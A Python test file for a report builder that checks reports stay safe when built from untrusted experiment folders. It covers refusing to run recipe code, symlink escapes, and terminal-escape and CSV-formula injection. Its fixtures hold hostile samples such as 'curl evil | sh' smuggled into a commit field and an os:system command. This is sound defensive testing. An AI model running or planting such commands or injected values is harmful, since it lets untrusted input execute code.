"""Reports on folders that somebody handed over."""

from __future__ import annotations

import csv
import json
import re
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from layerlink.errors import LayerlinkError, UsageError
from layerlink.lab.report import building
from layerlink.lab.report.building import write_report
from layerlink.lab.report.files import write_csv
from layerlink.lab.run.folder import RunFolder
from layerlink.lab.run.reading.evaluation import evaluate_run
from layerlink.lab.run.reading.verification import verify_run


@pytest.fixture
def given(study: Path, teacher_run: Path, tmp_path: Path) -> Path:
    """Two rows and their teacher; the links' recipe names code."""
    folder = Path(shutil.copytree(study, tmp_path / "given"))
    for run in folder.glob("links-*"):
        file = run / "recipe.yaml"
        called = f"student:\n  model: os:system\n  arguments:\n    command: touch {tmp_path}/CALLED\n"
        file.write_text(re.sub(r"(?m)^student:\n(  .*\n)+", called, file.read_text()))
    return folder


def test_a_row_whose_code_is_not_trusted_is_left_unmeasured_and_the_report_goes_on(given: Path, tmp_path: Path) -> None:
    written = write_report([given], tmp_path / "report")
    assert re.search(r"“links” was not measured: .*names code.*student.model os:system.*--trust-code", written.left_out)
    rows = list(csv.DictReader((tmp_path / "report" / "tables" / "models.csv").read_text().splitlines()))
    assert [row["name"] for row in rows] == ["teacher", "labels only"]
    assert "student.model os:system" in written.page.read_text()
    assert not (tmp_path / "CALLED").exists()
    for run in given.glob("labels*"):
        shutil.rmtree(run)
    assert "“links” was not measured" in write_report([given], tmp_path / "again").left_out
    assert not (tmp_path / "CALLED").exists()


def test_a_teacher_that_is_code_is_not_called_either(study: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(study, tmp_path / "given"))
    for run in folder.glob("links-*"):
        file = run / "recipe.yaml"
        called = f"teacher:\n  model: os:system\n  arguments:\n    command: touch {tmp_path}/CALLED\n  weights: own\n"
        file.write_text(re.sub(r"(?m)^teacher:\n(  .*\n)+", called, file.read_text()))
    written = write_report([folder], tmp_path / "report")
    assert "teacher.model os:system" in written.left_out
    assert not (tmp_path / "CALLED").exists()


def test_a_report_is_written_into_its_own_folder(study: Path, tmp_path: Path) -> None:
    folder, other = Path(shutil.copytree(study, tmp_path / "given")), tmp_path / "other"
    other.mkdir()
    (folder / "report").symlink_to(other)
    with pytest.raises(UsageError, match="is a link, and a report is written into a folder"):
        write_report([folder], measure=0)
    (folder / "report").unlink()
    (folder / "report").mkdir()
    (folder / "report" / "tables").symlink_to(other)
    with pytest.raises(LayerlinkError, match="leads out of"):
        write_report([folder], measure=0)
    assert not list(other.iterdir())


def test_names_are_one_line_of_letters_everywhere(study: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(study, tmp_path / "given"))
    odd = "=cmd()\x1b[31m\u202eabc\nnext\ufffe"
    facts = json.loads((folder / "links-0" / "environment.json").read_text())
    (folder / "links-0" / "environment.json").write_text(json.dumps({**facts, "commit": "x\ncurl evil | sh\n#"}))
    rows = [
        {"name": name, "changes": {"soft.temperature": odd}, "runs": {"0": f"{run}-0", "1": f"{run}-1"}}
        for name, run in (("labels only", "labels only"), (odd, "links"))
    ]
    manifest = {"name": "x", "title": odd, "question": odd, "source": odd, "command": odd, "rows": rows}
    (folder / "sweep.json").write_text(json.dumps(manifest))
    write_report([folder], tmp_path / "report", measure=0)
    files = [path for path in (tmp_path / "report").rglob("*") if path.is_file()]
    assert {path.suffix for path in files} == {".html", ".md", ".csv", ".svg"}
    for path in files:
        text = path.read_text()
        for letter in ("\x1b", "\u202e", "\ufffe"):
            assert letter not in text, path
        assert not re.search(r"(?m)^(next|curl evil)", text), path
    names = [
        row["row"] for row in csv.DictReader((tmp_path / "report" / "tables" / "results.csv").read_text().splitlines())
    ]
    assert names[1] == r"'=cmd()\x1b[31m\u202eabc\nnext\ufffe"


def test_numbers_in_a_csv_stay_numbers(tmp_path: Path) -> None:
    write_csv(tmp_path / "it.csv", [{"@name": "-x", "n": -1.5, "none": None}])
    assert (tmp_path / "it.csv").read_text() == "'@name,n,none\n'-x,-1.5,\n"


def test_a_file_of_very_many_terms_or_rows_is_drawn_as_far_as_it_can_be_read(
    fake_run: Callable[..., Path], tmp_path: Path
) -> None:
    run = fake_run(tmp_path / "wide" / "x-0", 0, 60.0)
    names = ["epoch", "validation_accuracy", *(f"c : {place}" for place in range(3000))]
    for epochs in (2, 1):
        lines = [",".join(names), *[",".join("1" for _ in names)] * epochs]
        (run / "metrics.csv").write_text("\n".join(lines) + "\n")
        start = time.monotonic()
        write_report([tmp_path / "wide"], tmp_path / "report", measure=0)
        assert time.monotonic() - start < 60
    table = (tmp_path / "report" / "tables" / "one-epoch.csv").read_text()
    assert ("c : 39" in table, "c : 40" in table) == (True, False)
    for place, changed in enumerate(("lr=0.1", "lr=0.2", "batch_size=32")):
        fake_run(tmp_path / "rows" / f"r{place}-0", 0, 60.0 + place, f"training.{changed}")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(building, "MOST_ROWS", 2)
        page = write_report([tmp_path / "rows"], tmp_path / "rows-report", measure=0).page.read_text()
    assert "row by row (the first 2 of 3)" in page


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"first_losses": ["x"]}, "first_losses must be numbers"),
        ({"first_losses": [10**400]}, "first_losses must be numbers"),
        ({"first_losses": [1.0] * 99}, "99 losses of first steps are recorded"),
        (
            {"score": {"name": "accuracy", "words": "a\x1b[31m", "unit": "%", "higher_is_better": True, "digits": 2}},
            "up to 60 letters on one line",
        ),
    ],
)
def test_a_result_that_was_made_by_hand_is_told(
    change: dict[str, Any], message: str, study: Path, tmp_path: Path
) -> None:
    run = Path(shutil.copytree(study / "links-0", tmp_path / "run"))
    facts = json.loads((run / "result.json").read_text())
    (run / "result.json").write_text(json.dumps(facts | change))
    with pytest.raises(LayerlinkError) as caught:
        verify_run(RunFolder(run))
    assert message in str(caught.value)


def test_a_standard_deviation_of_0_is_told(study: Path, tmp_path: Path) -> None:
    run = Path(shutil.copytree(study / "links-0", tmp_path / "run"))
    facts = json.loads((run / "data.json").read_text())
    (run / "data.json").write_text(json.dumps(facts | {"std": [0.0] * len(facts["std"])}))
    with pytest.raises(LayerlinkError, match="numbers > 0"):
        evaluate_run(RunFolder(run))


def test_rows_of_other_names_keep_their_columns(tmp_path: Path) -> None:
    write_csv(tmp_path / "it.csv", [{"a": 1, "b": 2}, {"b": 3, "c": 4, "a": 5}])
    assert (tmp_path / "it.csv").read_text() == "a,b,c\n1,2,\n5,3,4\n"
